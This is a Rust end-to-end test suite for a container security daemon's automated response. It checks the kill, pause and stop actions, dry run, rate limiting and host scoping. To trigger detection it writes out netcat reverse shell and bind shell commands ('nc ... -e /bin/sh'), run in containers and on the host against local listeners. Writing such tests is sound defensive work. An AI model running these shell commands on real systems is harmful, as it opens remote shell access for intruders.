//! End-to-end tests of the response (issue 16): a real habitd (real probes, real store) learns
//! a real container with second-scale windows, then an attacker opens a reverse shell in it
//! (`nc 127.0.0.1 PORT -e /bin/sh` through `docker exec`, to a listener of the test).
//!
//! - response on: the shell is killed within a second of its alert (latency measured from the
//!   rule alert's time to the kernel's exit event of the process, both on the kernel's
//!   clock; `target/release/habitd`, as the claim is a latency), the `docker exec` ends by
//!   SIGKILL, a `habitd response` alert says so; the workload's learned habits (a shell
//!   health check, suppressed rule hits) run untouched;
//! - response off, then dry run: the same shell is alerted, answers on its connection and
//!   lives on; in dry run a `habitd response` alert says what would have been done;
//! - a flood of reverse shells (6 listeners) turns into `max_actions` kills, the rest alerted
//!   only and counted as rate limited, and they live on;
//! - a reverse shell on the host is never acted on by a policy that does not name the host,
//!   while the same policy acts on a container;
//! - a container is paused, then stopped, through Docker (CRI's stop: `tests/cri_e2e.rs`).
//!
//! Every policy names the test's own workload: other suites' containers run on this machine.
//!
//! Needs root, BTF and Docker, like the other end-to-end tests, and fails with what to install.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant, SystemTime};

use common::{ClientLoop, Container, Daemon, busybox_image, free_port, parse_rfc3339, tail};
use serde_json::Value;

/// Learning windows in seconds (as in fusion_e2e): rule hits of the health check are held
/// until seen in 3 intervals, then learned.
const FAST_LEARNING: &str = "[learning]\nmin = \"3s\"\nstable = \"4s\"\nmax = \"90s\"\n\
    interval = \"250ms\"\nfalse_alarm_rate = 0.05\ncheckpoint = \"300ms\"\n\
    habit_min_intervals = 3\nhabit_min_containers = 2\n\
    [probes]\ncounters_interval = \"1s\"\n";

const REVERSE_SHELL_RULE: &str = "Reverse shell or netcat with exec";
const RESPONSE_RULE: &str = "habitd response";
const WAIT: Duration = Duration::from_secs(20);

/// One test at a time: they load probes and run containers on two cores.
static SERIAL: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn serial() -> std::sync::MutexGuard<'static, ()> {
    SERIAL.lock().unwrap_or_else(|p| p.into_inner())
}

/// The test config with `[response]` keys `response`, scoped to the test's own workload
/// (image tag `tag`) unless they list `workloads` themselves: other tests' containers run on
/// the same machine (other suites, other daemons) and must never be acted on.
fn config(tag: &str, response: &str) -> String {
    let scope = if response.contains("workloads") {
        String::new()
    } else {
        format!("workloads = [\"{}\"]\n", key_of(tag))
    };
    format!("{FAST_LEARNING}[response]\n{scope}{response}")
}

/// The workload key of the test image of tag `tag`.
fn key_of(tag: &str) -> String {
    format!("docker.io/habitd-e2e/busybox:{tag}")
}

/// The learned workload: a busybox container on the host's network (so that its reverse shell
/// reaches the test's listener on 127.0.0.1) reading its web root in a loop, with a shell
/// health check run by `docker exec` every ~300 ms (a rule hit, "Shell spawned in container",
/// that learning makes habitual). Returns its key, the container and the health check loop.
fn learned_workload(daemon: &Daemon, tag: &str) -> (String, Container, ClientLoop) {
    let image = busybox_image(tag);
    let key = key_of(tag);
    let c = Container::run_with(
        &["--network", "host"],
        &image,
        &[
            "/bin/sh",
            "-c",
            "while true; do cat /www/index.html > /dev/null; sleep 0.3; done",
        ],
    );
    let id = c.id.clone();
    let health = ClientLoop::start(move || {
        health_check(&id);
    });
    daemon.wait_state(&key, "stable", Duration::from_secs(90));
    (key, c, health)
}

/// The workload's health check; fails the test if it did not succeed while the loop expects
/// it to (checked by the callers through its exit status).
fn health_check(id: &str) -> bool {
    Command::new("docker")
        .args([
            "exec",
            id,
            "/bin/sh",
            "-c",
            "cat /www/index.html > /dev/null; id",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// `docker exec ID /bin/nc 127.0.0.1 PORT -e /bin/sh`, started in the background.
fn reverse_shell(c: &Container, port: u16) -> Child {
    Command::new("docker")
        .args([
            "exec",
            &c.id,
            "/bin/nc",
            "127.0.0.1",
            &port.to_string(),
            "-e",
            "/bin/sh",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap()
}

/// Waits for `child` to end, at most `timeout`; its exit status (None if still running).
fn wait_child(child: &mut Child, timeout: Duration) -> Option<std::process::ExitStatus> {
    let deadline = Instant::now() + timeout;
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return Some(status);
        }
        if Instant::now() > deadline {
            return None;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Accepts the reverse shell's connection and checks that the shell answers on it.
fn shell_answers(listener: &TcpListener, timeout: Duration) -> Result<TcpStream, String> {
    listener.set_nonblocking(true).unwrap();
    let deadline = Instant::now() + timeout;
    let stream = loop {
        match listener.accept() {
            Ok((s, _)) => break s,
            Err(_) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(20)),
            Err(e) => return Err(format!("no connection from the reverse shell: {e}")),
        }
    };
    stream.set_nonblocking(false).unwrap();
    stream.set_read_timeout(Some(timeout)).unwrap();
    let mut writer = stream.try_clone().unwrap();
    writer.write_all(b"echo shell-$((6*7))\n").unwrap();
    let mut line = String::new();
    BufReader::new(stream.try_clone().unwrap())
        .read_line(&mut line)
        .map_err(|e| format!("the shell did not answer: {e}"))?;
    if line.trim() != "shell-42" {
        return Err(format!("the shell answered {line:?}"));
    }
    Ok(stream)
}

fn alerts_with_rule(daemon: &Daemon, key: &str, rule: &str) -> Vec<Value> {
    common::alerts_of(daemon, key)
        .into_iter()
        .filter(|a| a["rule"] == rule)
        .collect()
}

fn metric(daemon: &Daemon, action: &str, outcome: &str) -> f64 {
    daemon.metric(&format!(
        "habitd_response_actions_total{{action=\"{action}\",outcome=\"{outcome}\"}}"
    ))
}

/// The kernel's exit event of `pid` (printed by `--print-events`), waited for.
fn exit_event(daemon: &Daemon, pid: u64, timeout: Duration) -> Option<Value> {
    let deadline = Instant::now() + timeout;
    loop {
        let found = daemon
            .events()
            .into_iter()
            .find(|e| e["kind"] == "exit" && e["output_fields"]["proc.pid"].as_u64() == Some(pid));
        if found.is_some() || Instant::now() > deadline {
            return found;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn time_of(v: &Value) -> SystemTime {
    parse_rfc3339(v["time"].as_str().unwrap()).unwrap()
}

fn is_alive(pid: u64) -> bool {
    Path::new(&format!("/proc/{pid}")).exists()
        && std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|s| {
            !s.rsplit_once(')')
                .is_some_and(|(_, r)| r.trim_start().starts_with('Z'))
        })
}

#[test]
fn a_reverse_shell_in_a_learned_container_is_killed_within_a_second() {
    let _serial = serial();
    let started = Instant::now();
    // The release build: the claim is a latency (a debug build handles events about ten
    // times slower, and on a loaded machine took up to 0.65 s to see the exec).
    let dir = tempfile::tempdir().unwrap();
    let daemon = Daemon::start_bin_in(
        &common::release_habitd_bin(),
        dir.path(),
        &config("response-kill", "enabled = true\naction = \"kill\"\n"),
    );
    assert_eq!(metric(&daemon, "kill", "done"), 0.0);
    assert!(
        daemon
            .get("/metrics")
            .unwrap()
            .1
            .contains("habitd_response_actions_total{action=\"stop\",outcome=\"rate_limited\"} 0"),
        "every action and outcome is a metric at zero from start-up"
    );
    let (key, c, health) = learned_workload(&daemon, "response-kill");
    let learned_after = started.elapsed();

    // Benign repeats of learned behaviour (the health check keeps running, and more of it by
    // hand): never acted on.
    for _ in 0..5 {
        assert!(health_check(&c.id), "a learned health check failed");
    }
    std::thread::sleep(Duration::from_secs(2));
    let responses = alerts_with_rule(&daemon, &key, RESPONSE_RULE);
    assert!(
        responses.is_empty(),
        "the response acted on learned behaviour: {responses:#?}"
    );

    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut shell = reverse_shell(&c, port);
    let alert = daemon.wait_alert("the reverse shell", &key, WAIT, |a| {
        a["rule"] == REVERSE_SHELL_RULE
    });
    assert!(
        !alert["habitd"]["novel"].as_array().unwrap().is_empty(),
        "the reverse shell's alert is fused (novel in a stable workload): {alert}"
    );
    let pid = alert["output_fields"]["proc.pid"].as_u64().unwrap();
    let status = wait_child(&mut shell, Duration::from_secs(5));
    let response = daemon.wait_alert("the response", &key, WAIT, |a| a["rule"] == RESPONSE_RULE);
    let exit = exit_event(&daemon, pid, WAIT).unwrap_or_else(|| {
        panic!(
            "no exit event of pid {pid}; response: {response}\nlog:\n{}",
            tail(&daemon.log(), 30)
        )
    });
    let latency = time_of(&exit)
        .duration_since(time_of(&alert))
        .unwrap_or_default();
    let fields = &response["output_fields"];
    println!(
        "learned in {:.1} s; reverse shell pid {pid}: alert {} -> exit {} = {:.1} ms (response \
         decided {:.1} ms after the event); response: {}",
        learned_after.as_secs_f64(),
        alert["time"],
        exit["time"],
        latency.as_secs_f64() * 1000.0,
        fields["habitd.response.latency_ms"]
            .as_f64()
            .unwrap_or(-1.0),
        response["output"]
    );
    assert_eq!(fields["habitd.response.action"], "kill", "{response}");
    assert_eq!(fields["habitd.response.outcome"], "done", "{response}");
    assert_eq!(
        fields["habitd.response.target"],
        format!("pid {pid}"),
        "{response}"
    );
    assert_eq!(
        fields["habitd.response.rule"], REVERSE_SHELL_RULE,
        "{response}"
    );
    assert_eq!(fields["habitd.response.trigger"], "fused", "{response}");
    assert!(
        response["tags"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t == "done"),
        "{response}"
    );
    assert!(
        latency < Duration::from_secs(1),
        "killed {latency:?} after its alert (target: within a second)"
    );
    assert_eq!(
        exit["output_fields"]["evt.arg.status"].as_i64(),
        Some(i64::from(libc::SIGKILL)),
        "died of SIGKILL: {exit}"
    );
    let status = status.expect("docker exec still running after the kill");
    assert_eq!(status.code(), Some(137), "docker exec ends by SIGKILL");
    assert!(!is_alive(pid));
    assert_eq!(metric(&daemon, "kill", "done"), 1.0);

    // The workload itself lives on, and so do its habits.
    drop(health);
    assert!(
        health_check(&c.id),
        "the health check fails after the response"
    );
    std::thread::sleep(Duration::from_secs(1));
    let responses = alerts_with_rule(&daemon, &key, RESPONSE_RULE);
    assert_eq!(responses.len(), 1, "{responses:#?}");
    println!(
        "a_reverse_shell_in_a_learned_container_is_killed_within_a_second took {:.1} s",
        started.elapsed().as_secs_f64()
    );
}

#[test]
fn with_response_off_or_in_dry_run_the_reverse_shell_is_only_alerted() {
    let _serial = serial();
    let started = Instant::now();
    let dir = tempfile::tempdir().unwrap();
    let mut daemon = Daemon::start_in(dir.path(), &config("response-off", "enabled = false\n"));
    let (key, c, health) = learned_workload(&daemon, "response-off");

    for (mode, expected) in [("off", None), ("dry run", Some("dry_run"))] {
        if expected.is_some() {
            // The same store, the workload stable from it: now in dry run.
            daemon.stop();
            std::fs::remove_file(dir.path().join("alerts.jsonl")).unwrap();
            daemon = Daemon::start_in(
                dir.path(),
                &config("response-off", "enabled = true\ndry_run = true\n"),
            );
        }
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let mut shell = reverse_shell(&c, port);
        let alert = daemon.wait_alert("the reverse shell", &key, WAIT, |a| {
            a["rule"] == REVERSE_SHELL_RULE
        });
        let pid = alert["output_fields"]["proc.pid"].as_u64().unwrap();
        let stream = shell_answers(&listener, Duration::from_secs(5))
            .unwrap_or_else(|e| panic!("{mode}: {e}"));
        std::thread::sleep(Duration::from_secs(2));
        assert!(is_alive(pid), "{mode}: the reverse shell was killed");
        assert!(
            shell.try_wait().unwrap().is_none(),
            "{mode}: docker exec ended"
        );
        let responses = alerts_with_rule(&daemon, &key, RESPONSE_RULE);
        match expected {
            None => {
                assert!(responses.is_empty(), "{mode}: {responses:#?}");
                for outcome in [
                    "done",
                    "dry_run",
                    "failed",
                    "gone",
                    "refused",
                    "rate_limited",
                ] {
                    assert_eq!(metric(&daemon, "kill", outcome), 0.0, "{mode}: {outcome}");
                }
            }
            Some(outcome) => {
                assert_eq!(responses.len(), 1, "{mode}: {responses:#?}");
                let f = &responses[0]["output_fields"];
                assert_eq!(f["habitd.response.outcome"], outcome, "{mode}");
                assert_eq!(f["habitd.response.target"], format!("pid {pid}"), "{mode}");
                assert!(
                    f["habitd.response.detail"]
                        .as_str()
                        .unwrap()
                        .contains("would kill"),
                    "{mode}: {}",
                    responses[0]
                );
                assert_eq!(metric(&daemon, "kill", "dry_run"), 1.0);
                assert_eq!(metric(&daemon, "kill", "done"), 0.0);
                assert!(daemon.log().contains("dry run: would kill pid"));
            }
        }
        // Hanging up ends the shell.
        drop(stream);
        let _ = wait_child(&mut shell, Duration::from_secs(5));
        let _ = shell.kill();
        let _ = shell.wait();
    }
    drop(health);
    println!(
        "with_response_off_or_in_dry_run_the_reverse_shell_is_only_alerted took {:.1} s",
        started.elapsed().as_secs_f64()
    );
}

#[test]
fn a_flood_of_alerts_does_not_become_a_flood_of_kills() {
    let _serial = serial();
    let started = Instant::now();
    let daemon = Daemon::start(&config(
        "response-flood",
        "enabled = true\naction = \"kill\"\nmax_actions = 2\nrate_window = \"1m\"\n",
    ));
    let (key, c, health) = learned_workload(&daemon, "response-flood");
    // Six bind shells (`nc -l -p PORT -e /bin/sh`), each a fused alert of the reverse shell
    // rule, each a long-lived process.
    const FLOOD: usize = 6;
    let t0 = SystemTime::now();
    for _ in 0..FLOOD {
        let port = free_port().to_string();
        let out = c.exec_with(&["-d"], &["/bin/nc", "-l", "-p", &port, "-e", "/bin/sh"]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    // Every bind shell's exec, as the kernel reported it.
    let deadline = Instant::now() + WAIT;
    let pids: Vec<u64> = loop {
        let pids: Vec<u64> = daemon
            .events()
            .iter()
            .filter(|e| {
                e["kind"] == "exec"
                    && e["output_fields"]["proc.name"] == "nc"
                    && e["output_fields"]["habitd.workload"] == key.as_str()
                    && time_of(e) >= t0
            })
            .filter_map(|e| e["output_fields"]["proc.pid"].as_u64())
            .collect();
        if pids.len() >= FLOOD || Instant::now() > deadline {
            break pids;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    assert_eq!(
        pids.len(),
        FLOOD,
        "exec events of the bind shells: {pids:?}"
    );
    // The decisions are made as the alerts come: wait until all six are counted.
    let deadline = Instant::now() + WAIT;
    while metric(&daemon, "kill", "done") + metric(&daemon, "kill", "rate_limited") < FLOOD as f64
        && Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(100));
    }
    std::thread::sleep(Duration::from_secs(1));
    let done = metric(&daemon, "kill", "done");
    let limited = metric(&daemon, "kill", "rate_limited");
    let alive: Vec<u64> = pids.iter().copied().filter(|p| is_alive(*p)).collect();
    let responses = alerts_with_rule(&daemon, &key, RESPONSE_RULE);
    let outcomes: Vec<&str> = responses
        .iter()
        .map(|a| {
            a["output_fields"]["habitd.response.outcome"]
                .as_str()
                .unwrap()
        })
        .collect();
    println!(
        "flood of {FLOOD} bind shells: {done} killed, {limited} rate limited, {} alive; \
         response alerts {outcomes:?}",
        alive.len()
    );
    assert_eq!(
        done,
        2.0,
        "max_actions = 2 kills\n{}",
        tail(&daemon.log(), 30)
    );
    assert_eq!(
        limited,
        (FLOOD - 2) as f64,
        "the rest is counted as rate limited"
    );
    assert_eq!(
        alive.len(),
        FLOOD - 2,
        "the rate-limited shells live on: {alive:?} of {pids:?}"
    );
    // Two kills and one alert saying the limit is reached (the rest counted, not alerted).
    assert_eq!(outcomes, ["done", "done", "rate_limited"], "{responses:#?}");
    drop(health);
    println!(
        "a_flood_of_alerts_does_not_become_a_flood_of_kills took {:.1} s",
        started.elapsed().as_secs_f64()
    );
}

#[test]
fn a_host_process_is_never_acted_on_unless_named() {
    let _serial = serial();
    let started = Instant::now();
    // A wide policy: every alert from Error up, fused or not (also while learning), and a
    // glob that matches the key "host" as text ("?ost") without naming it (a host glob starts
    // with "host"). Not "*": other tests' containers run on this machine too, and the unit
    // tests show that "*" leaves the host out.
    let key = key_of("response-host");
    let daemon = Daemon::start(&config(
        "response-host",
        &format!(
            "enabled = true\naction = \"kill\"\nworkloads = [\"{key}\", \"?ost\"]\n\
             min_priority = \"error\"\n"
        ),
    ));
    // A bind shell on the host: busybox's nc, run under the name nc.
    let bin = tempfile::tempdir().unwrap();
    let nc = bin.path().join("nc");
    std::os::unix::fs::symlink(common::static_busybox(), &nc).unwrap();
    let port = free_port().to_string();
    let mut host_shell = Command::new(&nc)
        .args(["-l", "-p", &port, "-e", "/bin/sh"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let host_pid = u64::from(host_shell.id());
    let alert = daemon.wait_alert("the host's bind shell", "host", WAIT, |a| {
        a["rule"] == REVERSE_SHELL_RULE && a["output_fields"]["proc.pid"].as_u64() == Some(host_pid)
    });
    // The same in a container: the policy does act there (so it is live, not idle).
    let image = busybox_image("response-host");
    let c = Container::run(&image, &["/bin/sleep", "60"]);
    let key = key.as_str();
    let out = c.exec_with(&["-d"], &["/bin/nc", "-l", "-p", "5555", "-e", "/bin/sh"]);
    assert!(out.status.success());
    let response = daemon.wait_alert("the container's response", key, WAIT, |a| {
        a["rule"] == RESPONSE_RULE
    });
    assert_eq!(
        response["output_fields"]["habitd.response.outcome"], "done",
        "{response}"
    );
    assert_eq!(
        response["output_fields"]["habitd.response.trigger"],
        "priority"
    );
    std::thread::sleep(Duration::from_secs(2));
    assert!(
        host_shell.try_wait().unwrap().is_none(),
        "the host process was acted on: {alert}"
    );
    let host_responses = alerts_with_rule(&daemon, "host", RESPONSE_RULE);
    assert!(host_responses.is_empty(), "{host_responses:#?}");
    assert_eq!(
        metric(&daemon, "kill", "done"),
        1.0,
        "only the container's shell"
    );
    host_shell.kill().unwrap();
    host_shell.wait().unwrap();
    println!(
        "a_host_process_is_never_acted_on_unless_named took {:.1} s",
        started.elapsed().as_secs_f64()
    );
}

/// `docker inspect -f FORMAT ID`, trimmed ("" when the container is gone).
fn inspect(id: &str, format: &str) -> String {
    let out = Command::new("docker")
        .args(["inspect", "-f", format, id])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

#[test]
fn a_container_is_paused_or_stopped_through_docker() {
    let _serial = serial();
    let started = Instant::now();
    let image = busybox_image("response-container");
    let key = key_of("response-container");
    let key = key.as_str();
    let dir = tempfile::tempdir().unwrap();
    for action in ["pause", "stop"] {
        // Alerts from Error up (a bind shell while the workload learns is one), so that the
        // container needs no learning first.
        let daemon = Daemon::start_in(
            dir.path(),
            &config(
                "response-container",
                &format!(
                    "enabled = true\naction = \"{action}\"\nfused = false\nmin_priority = \"error\"\n\
                 stop_grace = \"1s\"\n"
                ),
            ),
        );
        let c = Container::run(&image, &["/bin/sleep", "120"]);
        let t0 = Instant::now();
        let out = c.exec_with(&["-d"], &["/bin/nc", "-l", "-p", "5555", "-e", "/bin/sh"]);
        assert!(out.status.success());
        let response = daemon.wait_alert(action, key, WAIT, |a| {
            a["rule"] == RESPONSE_RULE && a["output_fields"]["container.full_id"] == c.id.as_str()
        });
        let f = &response["output_fields"];
        assert_eq!(f["habitd.response.action"], action, "{response}");
        assert_eq!(f["habitd.response.outcome"], "done", "{response}");
        assert_eq!(
            f["habitd.response.target"],
            format!("container {}", &c.id[..12])
        );
        assert!(
            f["habitd.response.detail"]
                .as_str()
                .unwrap()
                .ends_with("(docker)"),
            "{response}"
        );
        let state = match action {
            "pause" => inspect(&c.id, "{{.State.Paused}}"),
            // --rm: a stopped container is removed (or on its way out).
            _ => {
                let running = inspect(&c.id, "{{.State.Running}}");
                if running.is_empty() {
                    "removed".into()
                } else {
                    running
                }
            }
        };
        println!(
            "{action}: done {:.0} ms after the exec (runtime call {:.0} ms after the alert), \
             container state {state:?}",
            t0.elapsed().as_secs_f64() * 1000.0,
            f["habitd.response.latency_ms"].as_f64().unwrap()
        );
        match action {
            "pause" => assert_eq!(state, "true", "the container is paused"),
            _ => assert!(
                state == "false" || state == "removed",
                "still running: {state}"
            ),
        }
        assert_eq!(
            metric(&daemon, action, "done"),
            1.0,
            "{}",
            daemon
                .get("/metrics")
                .map(|(_, m)| m)
                .unwrap_or_default()
                .lines()
                .filter(|l| l.starts_with("habitd_response"))
                .collect::<Vec<_>>()
                .join("\n")
        );
        if action == "pause" {
            let _ = Command::new("docker").args(["unpause", &c.id]).status();
        }
        drop(c);
        drop(daemon);
    }
    println!(
        "a_container_is_paused_or_stopped_through_docker took {:.1} s",
        started.elapsed().as_secs_f64()
    );
}
